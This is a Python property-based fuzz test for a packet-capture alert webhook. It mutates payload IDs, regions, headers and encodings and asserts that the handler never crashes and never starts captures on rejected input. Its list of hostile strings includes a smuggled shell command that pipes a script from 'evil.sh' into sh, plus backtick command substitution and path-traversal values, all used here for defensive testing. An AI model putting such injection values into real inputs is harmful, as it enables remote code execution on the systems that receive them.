"""Property-based fuzz of the webhook: every alert family and the manual request, with mutated IDs,
overrides, headers and encodings, through the real function, SDK and emulator.

Whatever arrives: never a 500, always a JSON answer with a `status`, and a body answered 400/415 never
created a capture (no PUT reached the emulator while it was handled).
"""

from __future__ import annotations

import copy
import gzip
import json
from pathlib import Path
from typing import Any

from hypothesis import HealthCheck, event, given, settings
from hypothesis import strategies as st

from tests.conftest import PAYLOADS, VM_WEB_1, request

FIXTURES = sorted(p.name for p in Path(PAYLOADS).glob("*.json"))
MANUAL = {"targets": [VM_WEB_1], "reason": "fuzz"}

HOSTILE_TEXT = st.sampled_from(
    [
        "",
        " ",
        "\n",
        "..",
        "٣",
        "３",
        "\u017f",
        "\u212a",
        "\u0130",
        "%2e%2e",
        "\\\\evil\\share",
        "C:\\Windows",
        "~root",
        "\u202e",
        "9" * 80,
        "x" * 2000,
        "eastus2; curl evil.sh | sh #",
        "`id`",
        "10.0.0.9-10.0.0.1",
        "90-80",
        "80;;",
        "fe80::1%eth0",
    ]
)
TEXT = st.one_of(HOSTILE_TEXT, st.text(max_size=40))
JSON_VALUE = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats(allow_nan=False) | TEXT,
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(TEXT, inner, max_size=3),
    max_leaves=6,
)
OVERRIDE_KEYS = st.sampled_from(
    [
        "captureTimeLimitSeconds",
        "captureLocalPath",
        "captureFilters",
        "captureBytesPerPacket",
        "captureBytesPerSession",
        "capture_time_limit_seconds",
        "captureUnknown",
    ]
)
FILTER = st.fixed_dictionaries(
    {},
    optional={
        "protocol": st.one_of(st.sampled_from(["TCP", "udp", "Any"]), TEXT),
        "localPort": TEXT,
        "remotePort": st.one_of(TEXT, st.integers()),
        "remoteIPAddress": TEXT,
        "localIPAddress": TEXT,
    },
)


def _strings(node: Any, path: tuple[Any, ...] = ()) -> list[tuple[Any, ...]]:
    """Paths to every string that looks like a resource ID or region in a decoded body."""
    found: list[tuple[Any, ...]] = []
    if isinstance(node, dict):
        for key, value in node.items():
            found += _strings(value, (*path, key))
    elif isinstance(node, list):
        for index, value in enumerate(node):
            found += _strings(value, (*path, index))
    elif isinstance(node, str) and (node.startswith("/subscriptions/") or path[-1:] == ("resourceRegion",)):
        found.append(path)
    return found


def _set(node: Any, path: tuple[Any, ...], value: Any) -> None:
    for part in path[:-1]:
        node = node[part]
    node[path[-1]] = value


def _properties(body: dict[str, Any]) -> dict[str, Any] | None:
    """Where this family carries capture overrides (custom properties, or the manual `capture`)."""
    if "targets" in body:
        return body.setdefault("capture", {})  # type: ignore[no-any-return]
    data = body.get("data")
    if isinstance(data, dict):
        if "essentials" in data:
            return data.setdefault("customProperties", {}) or None
        if "context" in data:
            return data.setdefault("properties", {}) or None
    if "context" in body:
        return body.setdefault("properties", {}) or None
    return None


@st.composite
def deliveries(draw: st.DrawFn) -> tuple[bytes, dict[str, str]]:
    name = draw(st.sampled_from([*FIXTURES, "manual"]))
    body: dict[str, Any] = copy.deepcopy(
        MANUAL if name == "manual" else json.loads((Path(PAYLOADS) / name).read_text())
    )
    for _ in range(draw(st.integers(0, 2))):
        paths = _strings(body)
        if not paths:
            break
        path = draw(st.sampled_from(paths))
        original = str(_get(body, path))
        mutation = draw(st.sampled_from(["replace", "insert", "case", "append", "json"]))
        if mutation == "replace":
            value: Any = draw(TEXT)
        elif mutation == "insert":
            at = draw(st.integers(0, len(original)))
            value = original[:at] + draw(HOSTILE_TEXT) + original[at:]
        elif mutation == "case":
            value = original.upper()
        elif mutation == "append":
            value = original + draw(
                st.sampled_from(["/", "/extensions/x", "/..", "?a=1", "/virtualMachines/1"])
            )
        else:
            value = draw(JSON_VALUE)
        _set(body, path, value)
    if draw(st.booleans()):
        props = _properties(body)
        if props is not None:
            key = draw(OVERRIDE_KEYS)
            if "filter" in key.lower():
                props[key] = draw(st.one_of(st.lists(FILTER, max_size=2), TEXT))
            else:
                props[key] = draw(st.one_of(TEXT, st.integers(), JSON_VALUE))
    raw = json.dumps(body, ensure_ascii=draw(st.booleans())).encode()
    encoding = draw(
        st.sampled_from(["plain", "plain", "gzip", "gzip-unlabelled", "utf-16", "truncated", "bom"])
    )
    headers = {
        "content-type": draw(st.sampled_from(["application/json", "application/json; charset=utf-8", ""]))
    }
    if encoding == "gzip":
        raw, headers["content-encoding"] = gzip.compress(raw), "gzip"
    elif encoding == "gzip-unlabelled":
        raw = gzip.compress(raw)
    elif encoding == "utf-16":
        raw = json.dumps(body).encode("utf-16")
    elif encoding == "truncated":
        raw = raw[: draw(st.integers(0, max(0, len(raw) - 1)))]
    elif encoding == "bom":
        raw = b"\xef\xbb\xbf" + raw
    if draw(st.integers(0, 9)) == 0:
        headers["content-type"] = draw(st.sampled_from(["text/plain", "application/x-www-form-urlencoded"]))
    return raw, {k: v for k, v in headers.items() if v}


def _get(node: Any, path: tuple[Any, ...]) -> Any:
    for part in path:
        node = node[part]
    return node


@settings(
    max_examples=150,
    deadline=None,
    suppress_health_check=[
        HealthCheck.function_scoped_fixture,
        HealthCheck.too_slow,
        HealthCheck.data_too_large,
    ],
)
@given(delivery=deliveries())
def test_no_delivery_breaks_the_contract(call, emu, delivery: tuple[bytes, dict[str, str]]) -> None:
    raw, headers = delivery
    puts_before = sum(1 for r in emu.request_log if r.method == "PUT")
    captures_before = len(emu.capture_ids())
    status, answer, _ = call("alert_webhook", request(body=raw, headers=headers or {"x-no-type": "1"}))
    event(f"HTTP {status}")
    assert status != 500, answer
    assert isinstance(answer.get("status"), str)
    assert status in (200, 202, 400, 403, 415, 502, 503), answer
    if status in (400, 415):
        assert answer["status"] == "rejected"
        assert answer["error"]["location"]
        assert len(answer["error"]["message"]) <= 600
        assert sum(1 for r in emu.request_log if r.method == "PUT") == puts_before
        assert len(emu.capture_ids()) == captures_before
